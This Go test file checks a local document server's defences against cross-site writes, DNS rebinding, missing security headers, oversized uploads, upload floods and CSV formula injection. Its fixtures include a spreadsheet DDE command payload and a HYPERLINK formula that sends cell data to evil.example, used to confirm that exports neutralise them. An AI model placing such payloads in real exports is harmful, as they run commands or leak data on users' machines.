package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/duban/duban/ingest"
	"github.com/duban/duban/library"
	"github.com/duban/duban/seeds"
)

// editedSeed is the seed with one task changed: an upload of it replaces
// the seed, which a snapshot shows.
func editedSeed() []byte {
	return []byte(strings.Replace(string(seeds.Notice()), "全区垃圾分类覆盖面达到80%", "全区垃圾分类覆盖面达到99%", 1))
}

// TestSameOriginWrites: a page of another site can send a form or a no-cors
// fetch to the server; the browser marks it (Origin, Sec-Fetch-Site) and the
// server refuses it, leaving the index as it was. The page's own writes and
// clients that are not browsers go through.
func TestSameOriginWrites(t *testing.T) {
	s, _ := MustOpenServer(t, "", true)
	s.Hosts = append(slices.Clone(LoopbackHosts), "example.com") // example.com: httptest's Host, for snapshot
	h := s.Handler()
	host := "127.0.0.1:8080"
	req := func(method, target string, header map[string]string, body []byte) response {
		t.Helper()
		var r *http.Request
		if body != nil {
			r = uploadRequest(t, "x.txt", body)
		} else {
			r, _ = http.NewRequest(method, target, nil)
		}
		r.Host = host
		for k, v := range header {
			r.Header.Set(k, v)
		}
		return serve(h, r)
	}
	before := snapshot(t, h)
	refused := []struct {
		name   string
		header map[string]string
	}{
		{"cross-site form", map[string]string{"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}},
		{"no-cors fetch from another port", map[string]string{"Origin": "http://127.0.0.1:9999", "Sec-Fetch-Site": "same-site"}},
		{"opaque origin", map[string]string{"Origin": "null"}},
		{"origin without fetch metadata", map[string]string{"Origin": "http://evil.example"}},
		{"fetch metadata without origin", map[string]string{"Sec-Fetch-Site": "cross-site"}},
		{"origin of another scheme", map[string]string{"Origin": "ftp://127.0.0.1:8080"}},
		{"referer of another site only", map[string]string{"Referer": "http://evil.example/page.html"}},
		{"referer of another port only", map[string]string{"Referer": "http://127.0.0.1:9999/"}},
	}
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			r := req("POST", "/api/documents", tt.header, editedSeed())
			if b := decode[ErrorBody](t, r); r.status != 403 || b.Error.Code != ingest.EFORBIDDEN {
				t.Errorf("upload: %d %s", r.status, r.body)
			}
			if r := req("DELETE", "/api/documents/any", tt.header, nil); r.status != 403 {
				t.Errorf("delete: %d %s", r.status, r.body)
			}
		})
	}
	if after := snapshot(t, h); after != before {
		t.Fatal("a cross-origin write changed the index")
	}
	for _, tt := range []struct {
		name   string
		header map[string]string
	}{
		{"the page itself", map[string]string{"Origin": "http://" + host, "Sec-Fetch-Site": "same-origin"}},
		{"a client that is not a browser", nil},
		{"the page itself, by its referer only", map[string]string{"Referer": "http://" + host + "/?q=x"}},
	} {
		if r := req("POST", "/api/documents", tt.header, editedSeed()); r.status != 200 {
			t.Errorf("%s: %d %s", tt.name, r.status, r.body)
		}
	}
}

// TestHostCheck: a server answers only to the names it is bound to, so a
// page that rebinds its own name to the server's address (DNS rebinding)
// can neither read nor write.
func TestHostCheck(t *testing.T) {
	s, _ := MustOpenServer(t, "", true)
	s.Hosts = LoopbackHosts
	h := s.Handler()
	for _, tt := range []struct {
		host   string
		status int
	}{
		{"127.0.0.1:8080", 200}, {"localhost:8080", 200}, {"LOCALHOST", 200}, {"[::1]:8080", 200},
		{"rebind.evil.example:8080", 403}, {"127.0.0.1.nip.io:8080", 403}, {"localhost.evil.example", 403},
	} {
		r, _ := http.NewRequest("GET", "/api/search?q="+url.QueryEscape("垃圾分类"), nil)
		r.Host = tt.host
		if got := serve(h, r); got.status != tt.status {
			t.Errorf("Host %s: %d, want %d", tt.host, got.status, tt.status)
		}
	}
	// The rebinding page writing with its own origin: same origin, but not
	// a name of this server.
	r := uploadRequest(t, "x.txt", editedSeed())
	r.Host = "rebind.evil.example:8080"
	r.Header.Set("Origin", "http://rebind.evil.example:8080")
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	if got := serve(h, r); got.status != 403 {
		t.Errorf("rebinding upload: %d %s", got.status, got.body)
	}
}

// TestSecurityHeaders: API answers, errors and exports carry the security
// headers too, not only the page.
func TestSecurityHeaders(t *testing.T) {
	_, h := MustOpenServer(t, "", true)
	for _, target := range []string{"/api/search?q=x", "/api/export?format=csv", "/api/export?format=xlsx", "/api/tasks/nope", "/healthz", "/api/stats", "/static/app.js", "/"} {
		r := do(t, h, "GET", target, nil, nil)
		for _, name := range []string{"X-Content-Type-Options", "X-Frame-Options", "Referrer-Policy", "Content-Security-Policy", "Cross-Origin-Resource-Policy"} {
			if r.header.Get(name) == "" {
				t.Errorf("%s: no %s", target, name)
			}
		}
		csp := r.header.Get("Content-Security-Policy")
		if target == "/" && !strings.Contains(csp, "script-src 'self'") || target != "/" && !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("%s: Content-Security-Policy %q", target, csp)
		}
	}
}

func TestAuthorizationHeader(t *testing.T) {
	const token = "0123456789abcdef-token"
	tests := []struct {
		header string
		ok     bool
	}{
		{"Bearer " + token, true},
		{"bearer " + token, true},
		{"BEARER " + token, true},
		{"  Bearer   " + token + "  ", true},
		{"Bearer " + token + "x", false},
		{"Bearer " + token[:len(token)-1], false},
		{"Basic " + token, false},
		{token, false},
		{"Bearer", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := tokenMatches(tt.header, token); got != tt.ok {
			t.Errorf("%q: %v, want %v", tt.header, got, tt.ok)
		}
	}
	_, h := MustOpenServer(t, token, true)
	if r := upload(t, h, "x.txt", editedSeed(), map[string]string{"Authorization": "bearer " + token}); r.status != 200 {
		t.Errorf("lower-case bearer: %d %s", r.status, r.body)
	}
}

func TestCheckToken(t *testing.T) {
	for _, tt := range []struct {
		token string
		ok    bool
	}{
		{"0123456789abcdef", true},
		{"                    ", false},
		{"\t\n", false},
		{"short", false},
		{"0123456789abcde", false},
		{"0123456789abcdef\n", false},
		{"0123456789 abcdef", false},
	} {
		if err := CheckToken(tt.token); (err == nil) != tt.ok {
			t.Errorf("%q: %v", tt.token, err)
		}
	}
}

// TestUploadsTooLarge: the files that once took the process down are
// refused with 413 too_large, and the index is as it was.
func TestUploadsTooLarge(t *testing.T) {
	_, h := MustOpenServer(t, "", true)
	before := snapshot(t, h)
	files, _ := filepath.Glob("../ingest/source/testdata/limit_*")
	if len(files) < 5 {
		t.Fatalf("fixtures: %v", files)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		r := upload(t, h, filepath.Base(f), data, nil)
		if b := decode[ErrorBody](t, r); r.status != 413 || b.Error.Code != ingest.ETOOLARGE {
			t.Errorf("%s: %d %s", f, r.status, r.body)
		}
	}
	if snapshot(t, h) != before {
		t.Error("a refused upload changed the index")
	}
}

// blockingLibrary holds every Import until release is closed, so a test
// can fill the upload gate.
type blockingLibrary struct {
	Library
	entered chan struct{}
	release chan struct{}
}

func (b *blockingLibrary) Import(ctx context.Context, doc *ingest.Document, data []byte, opts library.ImportOptions) (*library.Preview, error) {
	b.entered <- struct{}{}
	<-b.release
	return b.Library.Import(ctx, doc, data, opts)
}

// TestUploadGate: uploads beyond those being parsed and those waiting are
// answered 503 busy with Retry-After at once; the others complete.
func TestUploadGate(t *testing.T) {
	s, _ := MustOpenServer(t, "", true)
	bs := &blockingLibrary{Library: s.Library, entered: make(chan struct{}, 8), release: make(chan struct{})}
	s.Library, s.MaxParses, s.MaxQueued = bs, 1, 1
	h := s.Handler()
	var wg sync.WaitGroup
	results := make([]response, 2)
	for i := range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i] = serve(h, uploadRequest(t, "x.txt", editedSeed()))
		}()
		if i == 0 {
			<-bs.entered // the first holds the one running place
		}
	}
	// The second waits for its turn: both tickets are taken.
	for deadline := time.Now().Add(10 * time.Second); len(s.gate.tickets) < 2; {
		if time.Now().After(deadline) {
			t.Fatal("the second upload never queued")
		}
		time.Sleep(time.Millisecond)
	}
	r := serve(h, uploadRequest(t, "x.txt", editedSeed()))
	if b := decode[ErrorBody](t, r); r.status != 503 || b.Error.Code != ingest.EBUSY || r.header.Get("Retry-After") == "" {
		t.Errorf("third upload: %d %v %s", r.status, r.header, r.body)
	}
	close(bs.release)
	wg.Wait()
	for i, r := range results {
		if r.status != 200 && r.status != 201 {
			t.Errorf("upload %d: %d %s", i, r.status, r.body)
		}
	}
	// A client that leaves while waiting gives its place up.
	ctx, cancel := context.WithCancel(context.Background())
	bs2 := &blockingLibrary{Library: bs.Library, entered: make(chan struct{}, 8), release: make(chan struct{})}
	s.Library = bs2
	h = s.Handler()
	first := make(chan response)
	go func() { first <- serve(h, uploadRequest(t, "x.txt", editedSeed())) }()
	<-bs2.entered
	done := make(chan response)
	go func() { done <- serve(h, uploadRequest(t, "x.txt", editedSeed()).WithContext(ctx)) }()
	for len(s.gate.tickets) < 2 {
		time.Sleep(time.Millisecond)
	}
	cancel()
	<-done
	if n := len(s.gate.tickets); n != 1 {
		t.Errorf("%d tickets held after the waiting client left", n)
	}
	close(bs2.release)
	<-first
}

// TestCSVExportNeutralisesFormulas: a task whose text or names begin like
// a formula is exported to CSV as text a spreadsheet does not evaluate.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	s, h := MustOpenServer(t, "", true)
	doc := &ingest.Document{Notice: ingest.Notice{ID: "2017-csv", Title: "=cmd|' /C calc'!A0", Year: 2017}, Tasks: []ingest.Task{{
		ID: "2017-csv-1", DocID: "2017-csv", Year: 2017, Seq: 1,
		Text:    `=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
		Leaders: []string{"+张三"}, Units: []string{"-区某局"}, UnitGroups: []string{"-区某局"}, CoUnits: []string{"@SUM(1)"},
		Deadline: "\t=1+1",
	}}}
	if _, err := s.Store.Replace(doc); err != nil {
		t.Fatal(err)
	}
	r := do(t, h, "GET", "/api/export?format=csv&doc=2017-csv", nil, nil)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %v %q", err, r.body)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s begins like a formula: %q", LedgerHeader()[i], cell)
		}
	}
	if rows[1][3] != `'=HYPERLINK("http://evil.example/?x="&A1,"点击")` || rows[1][5] != "'+张三" {
		t.Errorf("row = %q", rows[1])
	}
}

func uploadRequest(t *testing.T, name string, content []byte) *http.Request {
	t.Helper()
	var buf bytes.Buffer
	ct := writeMultipart(&buf, name, content)
	r, _ := http.NewRequest("POST", "/api/documents", &buf)
	r.Header.Set("Content-Type", ct)
	return r
}

// writeMultipart writes a multipart body with content as the file field and
// returns its content type.
func writeMultipart(buf *bytes.Buffer, name string, content []byte) string {
	mw := multipart.NewWriter(buf)
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write(content)
	mw.Close()
	return mw.FormDataContentType()
}

// serve runs one request through h.
func serve(h http.Handler, r *http.Request) response {
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, r)
	return response{rec.Code, rec.Body.Bytes(), rec.Header()}
}
